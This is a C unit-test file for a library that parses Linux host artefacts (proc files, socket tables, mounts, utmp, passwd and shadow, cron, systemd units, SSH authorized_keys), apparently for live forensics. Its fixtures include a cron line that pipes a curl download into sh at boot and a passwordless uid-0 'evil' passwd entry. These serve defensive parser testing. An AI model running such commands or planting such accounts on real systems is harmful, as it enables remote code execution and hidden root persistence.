/* SPDX-License-Identifier: Apache-2.0 */
/* The parsers of lib/live, on text as kernels and hosts write it, and as attackers do. */
#include "../t.h"

#include "../../lib/live/parse.h"
#include <sys/socket.h>

TEST(stat_survives_any_name)
{
	static const char tail[] = " S 1 2 3 34816 5 4194560 7 8 9 10 250 50 13 14 20 -5 3 0 12345 67108864 300 99";
	static const char *const names[] = {"bash", "a) R 0 0 (b", "x\ny", ")", "((((", "", ") ) )", "\xff\xfe"};

	for (size_t i = 0; i < PK_LEN(names); i++) {
		PK_AUTO(pk_buf) b = {0};
		struct live_stat s;

		pk_buf_putf(&b, "42 (%s)%s\n", names[i], tail);
		CHECK(live_parse_stat(pk_buf_str(&b), &s));
		CHECK_STR(s.comm, pk_str(names[i]));
		CHECK_INT(s.pid, 42);
		CHECK_INT(s.state, 'S');
		CHECK_INT(s.parent, 1);
		CHECK_INT(s.tty_nr, 34816);
		CHECK_INT(s.utime, 250);
		CHECK_INT(s.stime, 50);
		CHECK_INT(s.nice, -5);
		CHECK_INT(s.threads, 3);
		CHECK_INT(s.start_ticks, 12345);
		CHECK_INT(s.vsize, 67108864);
		CHECK_INT(s.rss_pages, 300);
	}
}

TEST(stat_refuses_what_is_none)
{
	static const char *const bad[] = {"",
					  "42",
					  "42 (",
					  "42 (x",
					  "42 (x)",
					  ")x( S 1",
					  "x (y) S 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20 21",
					  "1 (y) SS 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20 21",
					  "1 (y) S 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20"};
	struct live_stat s;

	for (size_t i = 0; i < PK_LEN(bad); i++)
		CHECK(!live_parse_stat(pk_str(bad[i]), &s));
}

TEST(maps_keep_the_path_whole)
{
	struct live_map m;

	CHECK(live_parse_map(PK_STR("7f00-7fff r-xp 00001000 fd:01 262145   /opt/a b (deleted)"), &m));
	CHECK_INT(m.start, 0x7f00);
	CHECK_INT(m.end, 0x7fff);
	CHECK_INT(m.offset, 0x1000);
	CHECK_INT(m.inode, 262145);
	CHECK_STR(m.permissions, PK_STR("r-xp"));
	CHECK_STR(m.path, PK_STR("/opt/a b (deleted)"));
	CHECK(live_parse_map(PK_STR("ffffffffff600000-ffffffffff601000 --xp 00000000 00:00 0"), &m));
	CHECK_INT(m.path.n, 0);
	CHECK(!live_parse_map(PK_STR("7f00 7fff r-xp 0 fd:01 1 /x"), &m));
	CHECK(!live_parse_map(PK_STR("7f00-7fff r-xpp 0 fd:01 1 /x"), &m));
	CHECK(!live_parse_map(PK_STR("00000000000007f00-7fff r-xp 0 fd:01 1 /x"), &m));
	CHECK(!live_parse_map(PK_STR(""), &m));
}

TEST(inet_lines)
{
	struct live_inet in;
	PK_AUTO(pk_buf) b = {0};

	CHECK(live_parse_inet(PK_STR("   0: 0100007F:1F90 0200A8C0:01BB 01 00000002:00000003 00:00000000 00000000  "
				     "1000        0 4711 1 ffff 100"),
			      false, &in));
	live_put_addr(&b, in.family, in.local);
	CHECK_STR(pk_buf_str(&b), PK_STR("127.0.0.1"));
	CHECK_INT(in.local_port, 8080);
	pk_buf_reset(&b);
	live_put_addr(&b, in.family, in.remote);
	CHECK_STR(pk_buf_str(&b), PK_STR("192.168.0.2"));
	CHECK_INT(in.remote_port, 443);
	CHECK_INT(in.state, 1);
	CHECK_INT(in.uid, 1000);
	CHECK_INT(in.inode, 4711);
	CHECK_INT(in.tx_queue, 2);
	CHECK_INT(in.rx_queue, 3);
	CHECK(live_parse_inet(PK_STR("0: 000080FE00000000FF00FC02010000FE:0016 00000000000000000000000000000000:0000 "
				     "0A 0:0 00:0 0 0 0 9"),
			      true, &in));
	pk_buf_reset(&b);
	live_put_addr(&b, in.family, in.local);
	CHECK_STR(pk_buf_str(&b), PK_STR("fe80::2fc:ff:fe00:1"));
	CHECK(!live_parse_inet(PK_STR("0: 0100007F:1F90 0200A8C0:01BB 01"), false, &in));
	CHECK(!live_parse_inet(PK_STR("0: 0100007F:1F90 0200A8C0:01BB 01 2:3 0:0 0 0 0 1"), true, &in));
	CHECK(!live_parse_inet(PK_STR("0: 0100007G:1F90 0200A8C0:01BB 01 2:3 0:0 0 0 0 1"), false, &in));
}

TEST(unix_lines)
{
	struct live_unix u;

	CHECK(live_parse_unix(PK_STR("ffff: 00000002 00000000 00010000 0001 01 1234 /run/a b"), &u));
	CHECK_INT(u.inode, 1234);
	CHECK_INT(u.flags, 0x10000);
	CHECK_STR(u.path, PK_STR("/run/a b"));
	CHECK(live_parse_unix(PK_STR("ffff: 00000002 00000000 00000000 0002 01 77"), &u));
	CHECK_INT(u.path.n, 0);
	CHECK(!live_parse_unix(PK_STR("Num RefCount Protocol Flags Type St Inode Path"), &u));
	CHECK(!live_parse_unix(PK_STR("second line of a path with a newline in it"), &u));
}

TEST(mountinfo_lines)
{
	struct live_mount m;
	PK_AUTO(pk_buf) b = {0};

	CHECK(live_parse_mount(
		PK_STR("36 35 98:0 /mnt1 /mnt\\0402 rw,noatime shared:1 master:2 - ext3 /dev/root rw,errors=continue"),
		&m));
	CHECK_INT(m.id, 36);
	CHECK_INT(m.parent, 35);
	CHECK_STR(m.optional, PK_STR("shared:1 master:2"));
	CHECK_STR(m.type, PK_STR("ext3"));
	CHECK_STR(m.source, PK_STR("/dev/root"));
	CHECK_STR(m.super_options, PK_STR("rw,errors=continue"));
	live_unescape(&b, m.path);
	CHECK_STR(pk_buf_str(&b), PK_STR("/mnt 2"));
	CHECK(live_parse_mount(PK_STR("1 1 0:1 / / rw - tmpfs  rw"), &m)); /* an empty source */
	CHECK_INT(m.source.n, 0);
	CHECK_STR(m.super_options, PK_STR("rw"));
	CHECK(!live_parse_mount(PK_STR("36 35 98:0 /mnt1 /mnt2 rw shared:1"), &m));
	CHECK(!live_parse_mount(PK_STR(""), &m));
	pk_buf_reset(&b);
	live_unescape(&b, PK_STR("\\1 \\777 \\134 \\01"));
	CHECK_STR(pk_buf_str(&b), PK_STR("\\1 \\777 \\ \\01"));
}

static void put16(char *at, uint16_t v) { memcpy(at, &v, 2); }
static void put32(char *at, uint32_t v) { memcpy(at, &v, 4); }
static void put64(char *at, uint64_t v) { memcpy(at, &v, 8); }

TEST(utmp_records_of_both_sizes)
{
	char narrow[LIVE_UTMP_SIZE * 2] = {0}, wide[LIVE_UTMP_WIDE_SIZE * 3] = {0};
	struct live_utmp u;

	put16(narrow, 7);
	put32(narrow + 4, 4242);
	memcpy(narrow + 8, "pts/0", 5);
	memcpy(narrow + 40, "ts/0", 4);
	memcpy(narrow + 44, "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", 32); /* fills the field: no NUL */
	memcpy(narrow + 76, "203.0.113.9", 11);
	put32(narrow + 336, 3);
	put32(narrow + 340, 0xf0000000u); /* past 2038 */
	put32(narrow + 344, 250000);
	memcpy(narrow + 348, "\xcb\x00\x71\x09", 4);
	CHECK(live_parse_utmp(pk_str_n(narrow, LIVE_UTMP_SIZE), &u));
	CHECK_INT(u.type, 7);
	CHECK_INT(u.pid, 4242);
	CHECK_STR(u.line, PK_STR("pts/0"));
	CHECK_INT(u.user.n, 32);
	CHECK_STR(u.host, PK_STR("203.0.113.9"));
	CHECK_INT(u.time.sec, 0xf0000000ll);
	CHECK_INT(u.time.nsec, 250000000);
	CHECK_INT(u.addr_family, AF_INET);
	CHECK_INT(live_utmp_record_size(pk_str_n(narrow, sizeof(narrow))), LIVE_UTMP_SIZE);
	for (size_t i = 0; i < 3; i++) {
		char *w = wide + i * LIVE_UTMP_WIDE_SIZE;

		put16(w, 8);
		put32(w + 4, 100 + (uint32_t)i);
		memcpy(w + 8, "tty1", 4);
		put64(w + 344, 1700000000);
		put64(w + 352, 5);
		memcpy(w + 360, "\xfe\x80\0\0\0\0\0\0\0\0\0\0\0\0\0\1", 16);
	}
	CHECK_INT(live_utmp_record_size(pk_str_n(wide, sizeof(wide))), LIVE_UTMP_WIDE_SIZE);
	CHECK(live_parse_utmp(pk_str_n(wide, LIVE_UTMP_WIDE_SIZE), &u));
	CHECK_INT(u.time.sec, 1700000000);
	CHECK_INT(u.addr_family, AF_INET6);
	CHECK(!live_parse_utmp(pk_str_n(narrow, 383), &u));
	put16(narrow, 10);
	CHECK(!live_parse_utmp(pk_str_n(narrow, LIVE_UTMP_SIZE), &u));
}

TEST(accounts_as_libc_reads_them)
{
	struct live_passwd p;
	struct live_group g;
	struct live_shadow s;

	CHECK(live_parse_passwd(PK_STR("root:x:0:0:root:/root:/bin/bash"), &p));
	CHECK_STR(p.shell, PK_STR("/bin/bash"));
	CHECK(live_parse_passwd(PK_STR("  evil::0:0"), &p)); /* fields may be missing: a known way to hide */
	CHECK_STR(p.name, PK_STR("evil"));
	CHECK_INT(p.uid, 0);
	CHECK_INT(p.home.n, 0);
	CHECK(live_parse_passwd(PK_STR("a:x:1:1:b:c:/bin/sh:more"), &p));
	CHECK_STR(p.shell, PK_STR("/bin/sh:more"));
	CHECK(!live_parse_passwd(PK_STR("# a:x:1:1:::"), &p));
	CHECK(!live_parse_passwd(PK_STR("a:x:4294967296:1:::"), &p));
	CHECK(!live_parse_passwd(PK_STR("a:x:-1:1:::"), &p));
	CHECK(!live_parse_passwd(PK_STR("+::::::"), &p));
	CHECK(live_parse_group(PK_STR("sudo:x:27:alice,bob"), &g));
	CHECK_STR(g.members, PK_STR("alice,bob"));
	CHECK(!live_parse_group(PK_STR("sudo:x"), &g));
	CHECK(live_parse_shadow(PK_STR("root:$y$j9T$abc$def:19000:0:99999:7:::"), &s));
	CHECK_STR(live_password_method(s.password), PK_STR("y"));
	CHECK_STR(s.max, PK_STR("99999"));
}

TEST(password_states)
{
	static const struct {
		const char *field, *state, *method;
	} t[] = {
		{"", "empty", ""},
		{"!", "not_set", ""},
		{"*", "not_set", ""},
		{"!!", "not_set", ""},
		{"x", "not_set", ""},
		{"!*", "not_set", ""},
		{"!$6$salt$hash", "locked", "6"},
		{"$1$a$b", "active", "1"},
		{"abJnggxhB/yWI", "active", ""},
		{"$", "active", ""},
		{"$$", "active", ""},
	};

	for (size_t i = 0; i < PK_LEN(t); i++) {
		CHECK_STR(pk_str(live_password_status(pk_str(t[i].field))), pk_str(t[i].state));
		CHECK_STR(live_password_method(pk_str(t[i].field)), pk_str(t[i].method));
	}
}

TEST(cron_lines)
{
	struct live_cron c;

	CHECK(live_parse_cron(PK_STR("*/5 0-3 * jan mon  root  /bin/x --y \"a b\""), true, &c));
	CHECK_STR(c.minute, PK_STR("*/5"));
	CHECK_STR(c.day_of_week, PK_STR("mon"));
	CHECK_STR(c.user, PK_STR("root"));
	CHECK_STR(c.command, PK_STR("/bin/x --y \"a b\""));
	CHECK(live_parse_cron(PK_STR("@reboot curl http://203.0.113.1/a=b | sh"), false, &c));
	CHECK_STR(c.event, PK_STR("@reboot"));
	CHECK_STR(c.command, PK_STR("curl http://203.0.113.1/a=b | sh"));
	CHECK(live_parse_cron(PK_STR("MAILTO = \"\""), true, &c));
	CHECK_STR(c.variable, PK_STR("MAILTO = \"\""));
	CHECK(!live_parse_cron(PK_STR("   # comment"), true, &c));
	CHECK(!live_parse_cron(PK_STR(""), true, &c));
	CHECK(!live_parse_cron(PK_STR("1 2 3 4 5"), false, &c));
	CHECK(!live_parse_cron(PK_STR("1 2 3 4 5 root"), true, &c));
}

TEST(unit_files)
{
	struct live_unit_cur c = {
		.rest = PK_STR(
			"[Unit]\nDescription = A\n; no\n\n[Service]\nExecStart=/bin/a \\\n# inside\n  -b \\\n -c\n"
			"Broken line\nUser=\nEnd=1\\")};
	static const struct {
		const char *section, *key, *value;
	} t[] = {
		{"Unit", "Description", "A"},
		{"Service", "ExecStart", "/bin/a  -b  -c"},
		{"Service", "User", ""},
	};
	struct pk_str k, v;

	for (size_t i = 0; i < PK_LEN(t); i++) {
		CHECK(live_unit_next(&c, &k, &v));
		CHECK_STR(c.section, pk_str(t[i].section));
		CHECK_STR(k, pk_str(t[i].key));
		CHECK_STR(v, pk_str(t[i].value));
	}
	CHECK(live_unit_next(&c, &k, &v)); /* continued into the end of the file */
	CHECK_STR(v, PK_STR("1"));
	CHECK(!live_unit_next(&c, &k, &v));
	pk_buf_done(&c.joined);
}

TEST(control_files)
{
	struct pk_str rest = PK_STR("\n\nPackage: a\nDescription: one\n two\n .\nversion:  1\n \n \nPackage: b\n"), p;

	CHECK(live_control_next(&rest, &p));
	CHECK_STR(live_control_get(p, PK_STR("Package")), PK_STR("a"));
	CHECK_STR(live_control_get(p, PK_STR("Description")), PK_STR("one\n two\n ."));
	CHECK_STR(live_control_get(p, PK_STR("Version")), PK_STR("1"));
	CHECK_STR(live_control_get(p, PK_STR("Pack")), PK_STR(""));
	CHECK(live_control_next(&rest, &p));
	CHECK_STR(live_control_get(p, PK_STR("Package")), PK_STR("b"));
	CHECK(!live_control_next(&rest, &p));
}

TEST(authorized_key_lines)
{
	struct live_authkey k;

	CHECK(live_parse_authkey(PK_STR("ssh-ed25519 AAAA me and you"), &k));
	CHECK_STR(k.key, PK_STR("AAAA"));
	CHECK_STR(k.comment, PK_STR("me and you"));
	CHECK(live_parse_authkey(PK_STR("command=\"sh -c \\\"ssh-rsa x\\\"\",no-pty  ecdsa-sha2-nistp256 BBBB"), &k));
	CHECK_STR(k.options, PK_STR("command=\"sh -c \\\"ssh-rsa x\\\"\",no-pty"));
	CHECK_STR(k.algorithm, PK_STR("ecdsa-sha2-nistp256"));
	CHECK_INT(k.comment.n, 0);
	CHECK(!live_parse_authkey(PK_STR("# ssh-rsa AAAA"), &k));
	CHECK(!live_parse_authkey(PK_STR("command=\"unclosed ssh-rsa AAAA"), &k));
	CHECK(!live_parse_authkey(PK_STR("hello"), &k));
	CHECK(!live_parse_authkey(PK_STR("ssh-rsa"), &k));
}

TEST(fields_and_numbers)
{
	struct pk_str v;
	uint64_t u;
	int64_t i;

	CHECK(live_field(PK_STR("Name:\tTgid:\t9\nTgid:\t12\n"), PK_STR("Tgid"), ':', &v));
	CHECK_STR(v, PK_STR("12"));
	CHECK(!live_field(PK_STR("Tgidx:\t1\nTgid\n"), PK_STR("Tgid"), ':', &v));
	CHECK(live_u64(PK_STR("0010"), &u) && u == 10);
	CHECK(!live_u64(PK_STR("18446744073709551616"), &u));
	CHECK(live_i64(PK_STR("-9223372036854775807"), &i));
	CHECK(!live_i64(PK_STR("9223372036854775808"), &i));
	CHECK(!live_i64(PK_STR("-"), &i));
	CHECK(live_hex(PK_STR("ffffffffffffffff"), &u) && u == UINT64_MAX);
	CHECK(!live_hex(PK_STR("10000000000000000"), &u));
}

RUN_TESTS(T(stat_survives_any_name), T(stat_refuses_what_is_none), T(maps_keep_the_path_whole), T(inet_lines),
	  T(unix_lines), T(mountinfo_lines), T(utmp_records_of_both_sizes), T(accounts_as_libc_reads_them),
	  T(password_states), T(cron_lines), T(unit_files), T(control_files), T(authorized_key_lines),
	  T(fields_and_numbers))
